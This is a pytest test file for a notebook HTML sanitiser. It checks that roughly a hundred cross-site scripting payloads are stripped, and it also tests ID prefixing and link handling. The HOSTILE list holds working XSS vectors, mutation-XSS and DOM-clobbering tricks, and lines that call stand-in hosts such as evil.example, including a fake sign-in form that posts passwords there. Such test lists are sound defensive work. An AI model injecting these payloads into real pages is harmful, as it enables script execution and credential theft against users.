"""Nothing but the allow-list survives, whatever a notebook holds."""

import pytest

from tests.ipynb.builders import code, html_of, rendered, text
from tests.ipynb.safe_html import faults_in

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror&#61;alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="https://tracker.example/p.png" srcset="https://tracker.example/q.png 2x">',
    "<img src='attachment:x\" onerror=\"alert(1)'>",
    '![x](attachment:a"onerror="alert(1).png)',
    '![a" onerror="alert(1)](https://evil.example/x.png "t\\" onload=\\"x")',
    "<body onload=alert(1)>",
    "<div onclick=alert(1) style='position:fixed;inset:0' class='btn btn--primary'>x</div>",
    "<p style='background:url(https://tracker.example)'>x</p>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>"
    ),
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import url(https://evil.example);</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<video src='https://tracker.example/v'><source onerror=alert(1)></video>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='attachment:x'>x</a>",
    "<a href='https://a.example' target='_self' rel='opener' ping='https://tracker.example'>x</a>",
    "<a name='getElementById' id='cookie'>x</a>",
    "<img name='body' id='location'>",
    "<form id='x'><input id='attributes'></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](</sign-out>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[![x](https://tracker.example/a.png)](javascript:alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onload="alert(1)\nx\n```',
    "$</span><script>alert(1)</script>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "\\begin{align}</div><script>alert(1)</script>\\end{align}",
    "<span class='math' data-math='\" onload=\"x'>x</span>",
    "| <script>x</script> | b |\n|:-:|--:|\n| <img src=x onerror=alert(1)> | b |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    '# a" onmouseover="alert(1)',
    "<h1 id='x' onclick=alert(1)><script>x</script>y</h1>",
    "- [x] <script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<b",
    "</p></div></section></body></html><script>alert(1)</script>",
    "<table><td><script>alert(1)</script><tr></div></table>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div\x0conclick=alert(1)>x</div>",
    "<a href='https://a.example/\"><script>alert(1)</script>'>x</a>",
    'https://a.example/"onmouseover="alert(1)',
    "https://a.example/<script>alert(1)</script>",
    "<custom-element onclick=x>y</custom-element>",
    "<input type=checkbox class=task-list-item-checkbox onclick=alert(1)>",
    "<li id='user-content-x' id='y'>",
    "<img src='https://[::1' alt='x'>",
    "<img width='100%25' height='1e9' src='attachment:a.png'>",
]


class TestClean:
    @pytest.mark.parametrize("source", HOSTILE)
    def test_lets_nothing_through_in_text(self, source):
        html = html_of(source)

        assert faults_in(html) == []

    @pytest.mark.parametrize("source", HOSTILE)
    def test_lets_nothing_through_in_code_and_raw_cells(self, source):
        cells = rendered(
            code(source), {"cell_type": "raw", "metadata": {}, "source": source}
        ).cells

        for cell in cells:
            assert faults_in(cell.html) == []
            assert faults_in(f"<pre>{cell.html_first}</pre><pre>{cell.html_rest}</pre>") == []

    def test_lets_nothing_through_that_only_together_is_hostile(self):
        html = html_of("\n\n".join(HOSTILE))

        assert faults_in(html) == []

    def test_keeps_the_text_of_tags_that_go(self):
        assert (
            html_of("<font>in the **middle**</font>")
            == "<p>in the <strong>middle</strong></p>\n"
        )

    def test_keeps_what_authors_need(self):
        source = (
            '<details><summary>More</summary><p align="center"><kbd>x</kbd></p></details>\n\n'
            '<table><tr><th scope="col" colspan="2">a</th></tr></table>\n'
        )

        html = html_of(source)

        for part in ("<details>", "<summary>", 'align="center"', 'scope="col"', 'colspan="2"'):
            assert part in html

    def test_prefixes_ids_so_that_none_meets_one_of_the_page(self):
        html = html_of('<a id="main"></a><b id="Health Panel">x</b>')

        assert 'id="user-content-main"' in html
        assert 'id="user-content-health-panel"' in html

    @pytest.mark.parametrize(
        "link", ["#My-First-Part", "#my-first-part", "#My%20First%20Part", "#my.first.part"]
    )
    def test_joins_links_to_headings_however_they_are_spelt(self, link):
        html = html_of(f"# My First Part\n\n[go]({link})")

        assert '<h2 id="user-content-my-first-part">' in html
        assert '<a href="#user-content-my-first-part">go</a>' in html

    def test_sends_links_to_elsewhere_off_without_trace(self):
        html = html_of("[x](https://a.example/?a=1&b=2)")

        assert html == (
            '<p><a href="https://a.example/?a=1&amp;b=2" target="_blank" '
            'rel="noopener noreferrer nofollow">x</a></p>\n'
        )


class TestFaultsIn:
    @pytest.mark.parametrize(
        "html",
        [
            "<script></script>",
            "<p onclick='x'></p>",
            "<a href='javascript:x'>x</a>",
            "<a href='https://a.example'>x</a>",
            "<p id='main'></p>",
            "<p class='btn'></p>",
            "<img src='https://a.example/x.png'>",
            "<!-- x -->",
            "<p>",
            "</p>",
        ],
    )
    def test_would_see_what_must_not_be_there(self, html):
        assert faults_in(html)


class TestHostileCells:
    def test_cannot_reach_out_of_their_cell(self):
        cells = rendered(text("<div><details>"), text("fine")).cells

        assert all(faults_in(cell.html) == [] for cell in cells)
        assert cells[1].html == "<p>fine</p>\n"
